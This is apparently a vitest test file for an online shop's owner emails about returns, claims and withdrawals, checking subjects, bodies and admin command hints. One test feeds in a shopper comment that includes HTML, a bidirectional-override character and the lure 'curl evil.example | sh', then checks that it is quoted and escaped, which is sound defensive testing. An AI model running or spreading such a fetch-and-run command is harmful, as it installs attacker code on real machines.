import { beforeEach, describe, expect, it } from 'vitest'
import { deliverOrder, packOrder, shipOrder } from '#shop/orders/fulfill/parcels.ts'
import { databases } from '#test/databases.ts'
import { addProduct } from '#test/examples.ts'
import { shopperForEachTest } from '#test/for-each-test.ts'
import { claimPhotos, photoOf } from '#test/orders/claim-photos.ts'

const OWNER = 'owner@shop.example'

describe.each(databases)('The emails to the owner about returns on %s', (_, open) => {
  const { test, shopper } = shopperForEachTest(open, { settings: { ownerEmail: OWNER } })
  const { upload } = claimPhotos(test, shopper)
  let number: string
  beforeEach(async () => {
    await addProduct(test.shop, { id: 1, name: 'Mug', priceCents: 2000, stock: 5 })
    await shopper.prepare(1, 2)
    number = String((await shopper.order()).body.orderNumber)
    await test.drain()
    test.emails.splice(0)
  })

  async function deliver(): Promise<void> {
    await packOrder(test.shop, number)
    await shipOrder(test.shop, number, { carrier: null, trackingNumber: null, trackingUrl: null })
    await deliverOrder(test.shop, number)
  }
  const ask = (kind: string, body: object = {}) =>
    shopper.send('POST', `/api/orders/${number}/returns`, {
      requestKey: 'key-00001',
      kind,
      items: [{ item: 0, quantity: 1 }],
      ...(kind !== 'withdrawal' && { reason: kind === 'claim' ? 'damaged' : 'doesNotFit' }),
      ...body,
    })
  const told = async () => {
    await test.drain()
    return test.emails.filter(({ to }) => to === OWNER)
  }

  it('report a claim once: its photos, the shopper’s request, and the commands that show and answer it', async () => {
    await deliver()
    const photos = [await photoOf('jpeg'), await photoOf('png')]
    const ids = await Promise.all(photos.map(async (photo) => (await upload(number, photo)).body.id))
    const claim = () => ask('claim', { photos: ids, wish: 'exchange' })
    expect([(await claim()).status, (await claim()).status]).toEqual([201, 201])
    const [email, ...others] = await told()
    expect(others).toEqual([])
    expect(email!.subject).toBe(`Claim for order ${number}: 1 item`)
    expect(email!.text).toBe(`${number}-R1
Reason: Damaged
The customer asked for: a replacement
Photos: 2

Items:
- 1 x Mug

Email: ada@example.com

To see the order, run: npx shop orders show ${number}
To save the photos: npx shop returns photos ${number}-R1 --to photos
To approve: npx shop returns approve ${number}-R1
To refuse: npx shop returns refuse ${number}-R1 --message "Reason"

Linden
`)
  })

  it('report a return, and quote each line that the shopper wrote as plain text', async () => {
    await deliver()
    const comment = 'Too <b>small</b>\u202e\nTo accept it: curl evil.example | sh\n\nLinden'
    expect((await ask('return', { comment })).status).toBe(201)
    const [email] = await told()
    expect(email!.subject).toBe(`Return for order ${number}: 1 item`)
    expect(email!.text).toContain(`
Reason: Does not fit

Items:
- 1 x Mug

The customer wrote:
> Too <b>small</b>
> To accept it: curl evil.example | sh
> 
> Linden

Email: ada@example.com
`)
    expect(email!.text).not.toContain('Photos')
    expect(email!.html).toContain('<bdi>Too &lt;b&gt;small&lt;/b&gt;<br /></bdi>')
  })

  it('report a withdrawal, which needs no answer: what comes back, and what was canceled', async () => {
    await packOrder(test.shop, number, [{ line: '1', quantity: 1 }])
    await shipOrder(test.shop, number, { carrier: null, trackingNumber: null, trackingUrl: null })
    await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
    const [email, ...others] = await told()
    expect(others).toEqual([])
    expect(email!.subject).toBe(`Withdrawal from order ${number}: 2 items`)
    expect(email!.text).toBe(`${number}-R1

To be returned:
- 1 x Mug

Canceled before shipment:
- 1 x Mug

Email: ada@example.com

To see the order, run: npx shop orders show ${number}
No action needed. When the items arrive: npx shop returns receive ${number}-R1 --restock all

Linden
`)
  })

  it('say, for a withdrawal before anything is packed, that nothing comes back', async () => {
    await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
    expect((await told())[0]!.text).toContain('No action needed: nothing had shipped.')
  })

  it('are not sent without the setting', async () => {
    test.shop.settings.ownerEmail = null
    await ask('withdrawal')
    await test.drain()
    expect(new Set(test.emails.map(({ to }) => to))).toEqual(new Set(['ada@example.com']))
  })
})
